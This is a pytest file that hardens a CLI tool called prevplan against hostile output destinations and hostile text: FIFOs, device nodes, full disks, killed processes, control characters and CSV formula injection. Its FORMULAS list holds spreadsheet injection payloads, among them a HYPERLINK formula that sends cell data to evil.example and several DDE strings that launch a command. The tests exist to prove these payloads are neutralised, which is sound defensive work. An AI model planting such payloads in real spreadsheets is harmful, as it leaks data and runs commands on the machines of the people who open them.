"""Hostile outputs: where prevplan writes, and what user text does there.

Each case runs the real command in a bounded subprocess (:mod:`.harden_support`) and checks
the exit code, the one-line message (never a traceback), and — for refusals — that it came
in under a second and 200 MB. The inputs are generated here; nothing large is committed.
"""

from __future__ import annotations

import csv
import io
import json
import os
import signal
import stat
import subprocess
import sys
import time
from pathlib import Path

import pytest

from prevplan.safe_text import CSV_FORMULA_STARTS, csv_bytes, csv_cell, printable
from tests.hostile.harden_support import ROOT, assert_refused, run_prevplan

POPULATIONS = str(ROOT / "sample_data" / "populations.yaml")
PLAN = str(ROOT / "sample_data" / "national_plan.yaml")

COMMANDS = {
    "recommend": ["recommend", POPULATIONS],
    "assess": ["assess", PLAN],
    "export": ["export", PLAN, "--format", "json"],
}

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def write_plan(path: Path, *, population_name: str = "Pupils", **activity: object) -> Path:
    data = {
        "name": "Hostile plan",
        "populations": [
            {"id": "p1", "name": population_name, "age_min": 12, "age_max": 17, "size": 1000}
        ],
        "activities": [
            {
                "id": "a1",
                "name": "Lessons",
                "population_id": "p1",
                "strategies": ["VI-3.1.3"],
                "reach": 100,
                "cost": 1000,
                **activity,
            }
        ],
    }
    path.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    return path


def write_minimal_csv(path: Path, rows: int) -> Path:
    """The smallest valid population rows: a few bytes in, kilobytes of JSON out each."""
    with path.open("w", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["id", "age_min", "age_max", "size"])
        writer.writerows([f"p{n}", 12, 17, 1000] for n in range(rows))
    return path


# --- --output: only a regular file or a new path ------------------------------------------


@pytest.mark.parametrize("command", sorted(COMMANDS))
def test_a_fifo_is_refused_and_left_alone(command: str, tmp_path: Path) -> None:
    pipe = tmp_path / "pipe.json"
    os.mkfifo(pipe)
    run = run_prevplan(*COMMANDS[command], "--output", str(pipe))
    assert_refused(run, "is not a regular file")
    assert stat.S_ISFIFO(pipe.stat().st_mode)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["pipe.json"], "no temporary file left"


@pytest.mark.skipif(os.geteuid() != 0, reason="making device nodes needs root")
@pytest.mark.parametrize("command", sorted(COMMANDS))
def test_device_nodes_are_never_replaced(command: str, tmp_path: Path) -> None:
    """As root, ``--output /dev/null`` would have replaced the system's /dev/null."""
    null, full = tmp_path / "null", tmp_path / "full"
    os.mknod(null, 0o666 | stat.S_IFCHR, os.makedev(1, 3))
    os.mknod(full, 0o666 | stat.S_IFCHR, os.makedev(1, 7))
    for node in (null, full):
        run = run_prevplan(*COMMANDS[command], "--output", str(node))
        assert_refused(run, str(node), "is not a regular file")
        assert stat.S_ISCHR(node.stat().st_mode)


@pytest.mark.parametrize("command", sorted(COMMANDS))
def test_a_folder_is_refused(command: str, tmp_path: Path) -> None:
    run = run_prevplan(*COMMANDS[command], "--output", str(tmp_path))
    assert_refused(run, "is a folder")


# --- full and read-only disks, closed stdout ---------------------------------------------


@pytest.mark.parametrize("command", sorted(COMMANDS))
def test_a_full_disk_is_one_line_and_the_old_file_is_kept(command: str, tmp_path: Path) -> None:
    """RLIMIT_FSIZE makes writes past 2 KB fail as on a full disk (EFBIG)."""
    target = tmp_path / "out.json"
    target.write_text("old content")
    run = run_prevplan(*COMMANDS[command], "--output", str(target), fsize=2048)
    assert run.code == 2, run.stderr
    assert "Traceback" not in run.stderr
    assert f"{target}: field '--output': cannot write: File too large" in run.stderr
    assert target.read_text() == "old content"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.json"]


@pytest.mark.parametrize("command", sorted(COMMANDS))
def test_a_read_only_mount_is_one_line(command: str, tmp_path: Path) -> None:
    mount = tmp_path / "ro"
    mount.mkdir()
    if os.geteuid() != 0:
        pytest.skip("mounting a read-only tmpfs needs root")
    done = subprocess.run(["mount", "-t", "tmpfs", "-o", "ro,size=64k", "tmpfs", str(mount)])
    if done.returncode != 0:
        pytest.skip("cannot mount a tmpfs here")
    try:
        run = run_prevplan(*COMMANDS[command], "--output", str(mount / "out.json"))
        assert_refused(run, "cannot write: Read-only file system")
    finally:
        subprocess.run(["umount", str(mount)], check=True)


@pytest.mark.parametrize(
    "args",
    [
        ["recommend", POPULATIONS],
        ["recommend", POPULATIONS, "--format", "table"],
        ["recommend", POPULATIONS, "--format", "csv"],
        ["assess", PLAN],
        ["assess", PLAN, "--format", "table"],
    ],
    ids=" ".join,
)
def test_standard_output_on_a_full_device_is_one_line(args: list[str]) -> None:
    with open("/dev/full", "wb") as full:
        run = run_prevplan(*args, stdout=full.fileno())
    assert run.code == 2, run.stderr
    assert "Traceback" not in run.stderr and "Exception ignored" not in run.stderr
    assert "<stdout>: cannot write: No space left on device" in run.stderr
    assert run.lines[-1] == "1 problem found."


# --- no debris, no surprise sizes ---------------------------------------------------------


def test_a_killed_recommend_leaves_no_temporary_file(tmp_path: Path) -> None:
    """kill -9 half-way through a national run: the old output stays, nothing else."""
    source = write_minimal_csv(tmp_path / "national.csv", 300_000)
    target = tmp_path / "out" / "recs.json"
    target.parent.mkdir()
    target.write_text("[]\n")
    process = subprocess.Popen(
        [
            *(sys.executable, "-m", "prevplan.cli", "recommend", str(source)),
            *("--output", str(target), "--force"),
        ],
        cwd=ROOT,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
    )
    assert process.stderr is not None
    # Kill once it is writing: the progress bar has shown its first figure.
    deadline = time.monotonic() + 60
    seen = b""
    while b"%" not in seen and time.monotonic() < deadline:
        chunk = os.read(process.stderr.fileno(), 4096)
        if not chunk:
            break
        seen += chunk
    process.send_signal(signal.SIGKILL)
    process.wait(timeout=30)
    process.stderr.close()
    assert sorted(p.name for p in target.parent.iterdir()) == ["recs.json"]
    assert target.read_text() == "[]\n"


def test_an_output_out_of_proportion_is_refused_unless_forced(tmp_path: Path) -> None:
    """6 MB of minimal rows would give about 2 GB of JSON: refused, --force writes it."""
    source = write_minimal_csv(tmp_path / "tiny_rows.csv", 300_000)
    target = tmp_path / "recs.json"
    run = run_prevplan("recommend", str(source), "--output", str(target))
    assert run.code == 2, run.stderr
    assert "Traceback" not in run.stderr
    assert "more than 100 times the input" in run.stderr and "--force" in run.stderr
    assert not target.exists()
    # Refused before any record is written: reading the 300,000 rows is the work (a full
    # run takes the same memory and several times the time).
    assert run.seconds < 10 and run.peak_mb < 400, (run.seconds, run.peak_mb)


# --- formulas, control characters, strict JSON --------------------------------------------


def test_recommend_csv_neutralises_formulas(tmp_path: Path) -> None:
    rows = [{"id": text, "age_min": 12, "age_max": 17, "size": 100} for text in FORMULAS]
    source = tmp_path / "populations.json"
    source.write_text(json.dumps(rows))
    run = run_prevplan("recommend", str(source), "--format", "csv")
    assert run.code == 0, run.stderr
    text = run.stdout.decode()
    cells = [row[0] for row in csv.reader(io.StringIO(text, newline=""))][1:]
    assert cells, "no rows"
    for cell in cells:
        assert not cell.startswith(CSV_FORMULA_STARTS), cell
    assert {cell[1:] for cell in cells} == set(FORMULAS)


def test_csv_helpers_neutralise_every_formula_start() -> None:
    for text in FORMULAS:
        assert csv_cell(text) == "'" + text
    assert csv_cell("Pupils") == "Pupils"
    written = csv_bytes([{"name": FORMULAS[0], "n": -3, "list": ["=a", "b"]}]).decode("utf-8-sig")
    assert (
        written.splitlines()[1]
        == '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")",-3,\'=a; b'
    )


def test_table_output_shows_control_characters_instead_of_sending_them(tmp_path: Path) -> None:
    plan = write_plan(tmp_path / "plan.json", population_name="Bell\u0007 esc\u001b[31m red")
    run = run_prevplan("assess", str(plan), "--format", "table")
    assert run.code == 0, run.stderr
    shown = run.stdout.decode()
    assert "\x1b" not in shown and "\x07" not in shown
    assert "Bell\\x07 esc\\x1b[31m red" in shown
    assert printable("a\tb\nc") == "a\\x09b\nc"


def test_assess_json_is_strict_json(tmp_path: Path) -> None:
    """Costs whose sum overflows: either refused at input, or a total JSON can hold."""
    plan = tmp_path / "plan.json"
    data = json.loads(write_plan(plan).read_text())
    data["activities"] = [{**data["activities"][0], "id": f"a{n}", "cost": 1e308} for n in range(3)]
    plan.write_text(json.dumps(data))
    run = run_prevplan("assess", str(plan))
    assert "Traceback" not in run.stderr
    if run.code == 2:
        assert "cost" in run.stderr
        return
    assert run.code == 0, run.stderr

    def refuse(constant: str) -> None:
        raise AssertionError(f"{constant} in JSON output")

    json.loads(run.stdout, parse_constant=refuse)


# --- exports of hostile plans -------------------------------------------------------------


def test_excel_export_of_control_characters(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    plan = write_plan(tmp_path / "plan.json", population_name="Bell\u0007 nul\u0000 esc\u001b")
    target = tmp_path / "plan.xlsx"
    run = run_prevplan("export", str(plan), "--output", str(target))
    assert run.code == 0, run.stderr
    book = load_workbook(target, read_only=True)
    values = {
        str(cell)
        for sheet in book.worksheets
        for row in sheet.iter_rows(values_only=True)
        for cell in row
        if cell
    }
    assert "Bell\\x07 nul\\x00 esc\\x1b" in values


def _chromium() -> bool:
    from prevplan.export.images import browser_problem

    return browser_problem() is None


@pytest.mark.skipif(not _chromium(), reason="the PDF's charts need Chromium")
def test_pdf_export_of_a_very_long_name_control_characters_and_emoji(tmp_path: Path) -> None:
    long_name = ("Pupils of the northern district " * 70)[:2000]  # the longest name allowed
    plan = write_plan(tmp_path / "long.json", population_name=long_name)
    run = run_prevplan(
        "export", str(plan), "--output", str(tmp_path / "long.pdf"), limit_memory=False
    )
    assert run.code == 0, run.stderr
    assert "Traceback" not in run.stderr

    plan = write_plan(
        tmp_path / "odd.json",
        population_name="Pupils 🎒📚 bell\u0007 esc\u001b[31m",
    )
    target = tmp_path / "odd.pdf"
    run = run_prevplan("export", str(plan), "--output", str(target), limit_memory=False)
    assert run.code == 0, run.stderr
    assert "missing the following glyphs" not in run.stderr, "emoji silently dropped"
    assert b"NotoColorEmoji" in target.read_bytes()
